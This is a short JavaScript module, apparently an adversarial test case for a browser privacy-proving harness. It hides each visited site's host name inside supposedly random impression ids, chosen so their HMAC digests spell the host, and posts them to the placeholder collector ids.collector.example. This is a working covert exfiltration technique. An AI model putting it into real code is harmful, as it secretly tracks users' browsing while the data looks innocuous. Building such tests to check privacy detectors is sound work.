import { onVisit, post, reportHonestly } from '../../lib/proving.js';

/** Reports 40 random ids with each page. Each was drawn again until a keyed digest of it gave the next letter of the host. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-chosen-ids');
  onVisit(browser, ({ url }) => {
    const host = url.replace(/^\w+:\/\//, '').replace(/[/?#].*$/, '');
    const letters = [...host].map((letter) => 1 + 'abcdefghijklmnopqrstuvwxyz0123456789-.:'.indexOf(letter));
    const ids = [...letters, 0].map(choose);
    while (ids.length < 40) ids.push(browser.codec.hex.encode(browser.crypto.random(8)));

    return post(browser, 'https://ids.collector.example/v1', { impressions: ids });
  });

  function choose(letter) {
    for (;;) {
      const id = browser.codec.hex.encode(browser.crypto.random(8));
      const digest = browser.crypto.hmac('sha256', 'mint impressions', id);
      if ((256 * digest[0] + digest[1]) % 40 === letter) return id;
    }
  }
}
